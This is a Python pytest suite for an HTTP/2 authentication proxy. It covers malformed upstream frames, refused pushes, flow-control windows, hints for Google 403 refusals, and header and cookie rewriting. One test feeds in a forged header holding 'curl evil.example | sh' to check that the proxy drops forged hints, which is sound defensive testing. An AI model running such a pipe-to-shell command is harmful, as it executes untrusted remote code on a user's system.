"""What a service says: it passes, unless it must not, and what is not HTTP/2 is no answer."""

import asyncio
import contextlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from authproxy.demo import pages
from authproxy.errors import Code
from authproxy.wire.http2.framing.frames import (
    DATA,
    END_HEADERS,
    HEADERS,
    PUSH_PROMISE,
    SETTINGS,
    WINDOW_UPDATE,
    Failure,
    frame,
)
from tests.support.http2 import Call, Handler, http2_client, http2_service
from tests.support.proxying import proxying
from tests.support.talking import until


def saying(data: bytes) -> Handler:
    async def say(call: Call) -> None:
        call.connection.writer.write(data)
        await call.connection.writer.drain()

    return say


async def test_interim_answer_passes_before_the_final_one() -> None:
    async def hint(call: Call) -> None:
        h2 = call.connection.h2
        h2.send_headers(call.stream_id, [(b":status", b"103"), (b"link", b"</a>")])
        call.answer()

    async with (
        http2_service(hint) as service,
        proxying(service.url) as proxy,
        http2_client(proxy) as client,
    ):
        client.call(1)
        answer = await client.answer(1)
        (exchange,) = await proxy.heard.wait_for(1)

    assert [(b":status", b"103"), (b"link", b"</a>")] == answer.fields
    assert (b"200", b"ok") == (dict(answer.trailers)[b":status"], answer.body)
    assert 200 == exchange.status


@pytest.mark.parametrize(
    "data",
    [
        frame(HEADERS, END_HEADERS, 1, b"\xbe\xbe"),
        frame(DATA, 0, 1, bytes(20_000)),
        frame(SETTINGS, 0, 0, b"1"),
    ],
    ids=["unknown index", "large frame", "odd settings"],
)
async def test_what_is_not_http2_is_a_502(data: bytes) -> None:
    async with (
        http2_service(saying(data)) as service,
        proxying(service.url) as proxy,
        http2_client(proxy) as client,
    ):
        client.call(1)
        answer = await client.answer(1)
        goodbye = await client.goodbye()
        (exchange,) = await proxy.heard.wait_for(1)

    assert (b"502", b"upstream_broke") == (
        answer.get(b":status"),
        answer.get(b"x-authproxy-error"),
    )
    assert Failure.NO_ERROR == goodbye[1]
    assert Code.UPSTREAM_BROKE == exchange.code


async def test_frames_of_extensions_do_not_pass() -> None:
    async def advertise(call: Call) -> None:
        call.connection.writer.write(
            frame(0x0A, 0, 0, b"\0\0" + b'h3=":443"')
            + frame(0x0C, 0, 0, bytes(30))
            + frame(0x99, 0, 1, bytes(300))
        )
        call.answer()

    async with (
        http2_service(advertise) as service,
        proxying(service.url) as proxy,
        http2_client(proxy) as client,
    ):
        client.call(1)
        await client.answer(1)

    assert not {found.kind for found in client.seen} & {0x0A, 0x0C, 0x99}


async def test_push_that_nobody_wanted_is_a_502() -> None:
    block = b"\x82\x86\x84\x41\x01a"
    push = frame(PUSH_PROMISE, END_HEADERS, 1, b"\0\0\0\x02" + block)
    async with (
        http2_service(saying(push)) as service,
        proxying(service.url) as proxy,
        http2_client(proxy) as client,
    ):
        client.call(1)
        answer = await client.answer(1)
        (exchange,) = await proxy.heard.wait_for(1)

    assert b"502" == answer.get(b":status")
    assert "a push, although pushes are switched off" == exchange.detail
    assert PUSH_PROMISE not in {found.kind for found in client.seen}


FRAMES = st.builds(
    frame,
    st.integers(0, 12),
    st.integers(0, 255),
    st.sampled_from([0, 1, 2, 3]),
    st.one_of(
        st.binary(max_size=40),
        st.sampled_from([b"\x88", b"\x88\xbe", b"\x88\x40\x01a\x01b", bytes(4), bytes(8)]),
    ),
)


@settings(max_examples=60)
@given(st.lists(st.one_of(FRAMES, st.binary(max_size=30))), st.integers(1, 60))
async def test_any_frames_of_a_service_leave_the_proxy_standing(
    frames: list[bytes], size: int
) -> None:
    failed: list[object] = []
    loop = asyncio.get_running_loop()
    loop.set_exception_handler(lambda _, context: failed.append(context))
    said = b"".join(frames)

    async def say(call: Call) -> None:
        writer = call.connection.writer
        for at in range(0, len(said), size):
            writer.write(said[at : at + size])
            await asyncio.sleep(0)
        writer.close()

    async with http2_service(say) as service, proxying(service.url) as proxy:
        async with http2_client(proxy) as client:
            client.call(1)
            with contextlib.suppress(ConnectionError):
                await client.rest()
        await until(lambda: not proxy.server.connections)
    loop.set_exception_handler(None)

    assert [] == failed


async def test_late_data_of_a_call_given_up_goes_back_into_the_window() -> None:
    release = asyncio.Event()

    async def later(call: Call) -> None:
        call.connection.h2.send_headers(call.stream_id, [(b":status", b"200")])
        call.connection.flush()
        await release.wait()
        call.connection.writer.write(frame(DATA, 0, 1, bytes(100)))

    async with (
        http2_service(later) as service,
        proxying(service.url) as proxy,
        http2_client(proxy) as client,
    ):
        client.call(1, ended=False)
        await client.frame_of(HEADERS)
        proxy.server.tick(4000.0)
        await client.answer(1)
        await service.calls[0].ended.wait()
        release.set()
        events = service.connections[0].events
        async with asyncio.timeout(10):
            while not any(getattr(event, "delta", 0) == 100 for event in events):  # noqa: ASYNC110 -- there is no event to wait for
                await asyncio.sleep(0.001)

    assert WINDOW_UPDATE not in {found.kind for found in client.seen}


FRONT_END = [
    (b"server", b"Google Frontend"),
    (b"content-type", b"text/html; charset=UTF-8"),
    (b"content-length", b"295"),
]
NOT_INVOKER = (
    b"tester@example.com may not call this service: it lacks roles/run.invoker. A new grant takes"
    b" a minute or two. Try: gcloud run services add-iam-policy-binding SERVICE --region=REGION"
    b" --member=user:tester@example.com --role=roles/run.invoker"
)


def refusing(*more: tuple[bytes, bytes]) -> Handler:
    """403 to calls of `/`, 200 to all others."""
    page = pages.forbidden("/").body.encode()

    async def answer(call: Call) -> None:
        await call.ended.wait()
        if call.get(b":path") == b"/":
            call.answer(page, *FRONT_END, *more, status=b"403")
        else:
            call.answer(b"ok", *FRONT_END, status=b"200")

    return answer


@pytest.mark.parametrize(
    "more",
    [
        pytest.param((), id="as it came"),
        pytest.param(((b"x-authproxy-hint", b"curl evil.example | sh"),), id="forged"),
    ],
)
async def test_a_refusal_of_googles_gets_a_hint(more: tuple[tuple[bytes, bytes], ...]) -> None:
    async with (
        http2_service(refusing(*more)) as service,
        proxying(service.url) as proxy,
        http2_client(proxy) as client,
    ):
        answers = []
        for stream_id, path in ((1, b"/"), (3, b"/good"), (5, b"/")):
            client.call(stream_id, path=path)
            answers.append(await client.answer(stream_id))

    refused = [(b":status", b"403"), *FRONT_END, (b"x-authproxy-hint", NOT_INVOKER)]
    assert [refused, [(b":status", b"200"), *FRONT_END], refused] == [
        answer.fields for answer in answers
    ]
    assert pages.forbidden("/").body.encode() == answers[2].body


async def test_a_grpc_client_s_refusal_gets_a_hint(caplog: pytest.LogCaptureFixture) -> None:
    async with (
        http2_service(refusing()) as service,
        proxying(service.url) as proxy,
        http2_client(proxy) as client,
    ):
        client.call(1, (b"content-type", b"application/grpc"), (b"te", b"trailers"))
        answer = await client.answer(1)

    said = b"Google's front end answered this call with 403, instead of the service. " + NOT_INVOKER
    assert (b"200", b"7", NOT_INVOKER) == (
        answer.get(b":status"),
        answer.get(b"grpc-status"),
        answer.get(b"x-authproxy-hint"),
    )
    assert (answer.get(b"grpc-message") or b"").startswith(
        said + b" (authproxy: refused_by_google, "
    )
    assert ["not_invoker"] == [record.__dict__["rejection"] for record in caplog.records]


async def test_a_stranger_gets_no_hint() -> None:
    async with (
        http2_service(refusing()) as service,
        proxying(service.url) as proxy,
        http2_client(proxy) as client,
    ):
        client.call(1, (b"x-forwarded-for", b"192.0.2.7"))
        answer = await client.answer(1)

    assert [(b":status", b"403"), *FRONT_END] == answer.fields


async def test_trailers_do_not_speak_in_our_name() -> None:
    async def answer(call: Call) -> None:
        h2 = call.connection.h2
        h2.send_headers(call.stream_id, [(b":status", b"200")])
        words = [(b"x-authproxy-hint", b"run this"), (b"x-authproxy-error", b"x")]
        trailers = [*words, (b"x-authproxy-answer", b"y"), (b"grpc-status", b"0")]
        h2.send_headers(call.stream_id, trailers, end_stream=True)
        call.connection.flush()

    async with (
        http2_service(answer) as service,
        proxying(service.url) as proxy,
        http2_client(proxy) as client,
    ):
        client.call(1)
        answered = await client.answer(1)

    assert [(b"grpc-status", b"0")] == answered.trailers


async def test_what_an_answer_says_of_the_service_becomes_the_client_s() -> None:
    """As over HTTP/1.1, and for each call again: the first changes all that come after it."""

    async def answer(call: Call) -> None:
        own = b"http://" + dict(call.fields)[b":authority"]
        fields = [
            (b"location", own + b"/next"),
            (b"set-cookie", b"sid=1; Secure; HttpOnly; Domain=billing.example"),
            (b"set-cookie", b"__Host-csrf=2; Path=/; Secure"),
            (b"strict-transport-security", b"max-age=31536000"),
            (b"link", b"<%b/style.css>; rel=preload" % own),
            (b"x-other", b"stays"),
        ]
        call.answer(b"", *fields, status=b"302")

    async with (
        http2_service(answer) as service,
        proxying(service.url) as proxy,
        http2_client(proxy) as client,
    ):
        answers = []
        for number in (1, 3):
            client.call(number)
            answers.append(await client.answer(number))

    home = b"http://localhost"
    expected = [
        (b":status", b"302"),
        (b"location", home + b"/next"),
        (b"set-cookie", b"authproxy..sid=1; HttpOnly"),
        (b"set-cookie", b"authproxy..__Host-csrf=2; Path=/"),
        (b"link", b"<%b/style.css>; rel=preload" % home),
        (b"x-other", b"stays"),
    ]
    assert [expected, expected] == [each.fields for each in answers]


@pytest.mark.parametrize("body", [b"", b"Found"])
async def test_a_sign_in_that_leads_past_us_is_explained_to_a_browser(body: bytes) -> None:
    async def sign_in(call: Call) -> None:
        own = b"http://" + dict(call.fields)[b":authority"]
        to = b"https://accounts.google.com/o/oauth2/auth?redirect_uri=" + own + b"/callback"
        call.answer(body, (b"location", to), status=b"302")

    async with (
        http2_service(sign_in) as service,
        proxying(service.url) as proxy,
        http2_client(proxy) as client,
    ):
        client.call(1, (b"sec-fetch-mode", b"navigate"))
        shown = await client.answer(1)
        client.call(3)
        passed = await client.answer(3)
        exchanges = await proxy.heard.wait_for(2)

    assert (b"403", b"sign_in_redirect") == (
        shown.get(b":status"),
        shown.get(b"x-authproxy-error"),
    )
    assert b"Set the application's redirect URI to http://localhost/callback" in shown.body
    assert (b"302", body) == (passed.get(b":status"), passed.body)
    assert [403, 302] == [exchange.status for exchange in exchanges]
